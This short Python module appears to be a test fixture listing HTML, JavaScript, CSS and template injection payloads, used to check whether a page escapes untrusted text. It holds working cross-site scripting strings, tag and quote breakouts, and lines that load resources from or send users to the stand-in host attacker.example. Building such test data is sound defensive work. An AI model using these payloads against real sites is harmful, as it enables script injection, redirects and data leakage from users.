"""Texts that become something else where a page does not escape them: markup, programs, styles, templates.

Each of them, when it works, calls ``alert``, reaches ``attacker.example``, or adds an element ``owned``.
"""

from __future__ import annotations

PAGE_INJECTIONS = {
    "script": "<script>alert(1)</script>",
    "end of a script": "</script><script>alert(1)</script>",
    "end of a script in another case": "</ScRiPt ><img src=x onerror=alert(1)>",
    "comment in a script": "<!--<script>alert(1)//-->",
    "end of a comment": "--><script>alert(1)</script><!--",
    "image that fails": "<img src=x onerror=alert(1)>",
    "image elsewhere": "<img src='https://attacker.example/pixel.png'>",
    "picture": "<svg onload=alert(1)><owned></owned></svg>",
    "frame": "<iframe src='javascript:alert(1)'></iframe>",
    "link": "<a href='javascript:alert(1)' id=owned>a link</a>",
    "style elsewhere": "<link rel=stylesheet href=//attacker.example/a.css>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
    "base": "<base href=https://attacker.example/>",
    "form": "<form action=https://attacker.example><input name=owned autofocus onfocus=alert(1)></form>",
    "style": "<style>@import url(https://attacker.example/a.css); * { display: none }</style>",
    "end of a style": "</style><script>alert(1)</script>",
    "end of a title": "</title><script>alert(1)</script>",
    "out of double quotes": '" onmouseover=alert(1) autofocus onfocus=alert(1) x="',
    "out of single quotes": "' onfocus=alert(1) tabindex=0 autofocus '",
    "template": "`${alert(1)}` {{ alert(1) }} {% raw %} {{ ''.__class__.__mro__ }} {%- endraw %}",
    "end of a string": '";alert(1);//\\";alert(1)//\\u0022;alert(1)//',
    "ends of lines": "\u2028alert(1)\u2029alert(1)\x00<owned>\ud800",
    "escaped already": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;owned&#62;",
    "raw text": "<textarea></noscript><details open ontoggle=alert(1)><owned>",
    "declaration": "red;background:url(https://attacker.example/a.png)} owned { x: expression(alert(1))",
    "direction": "\u202e<owned onclick=alert(1)>\u2066 data:text/html,<script>alert(1)</script>",
    "prototype": "__proto__",
}
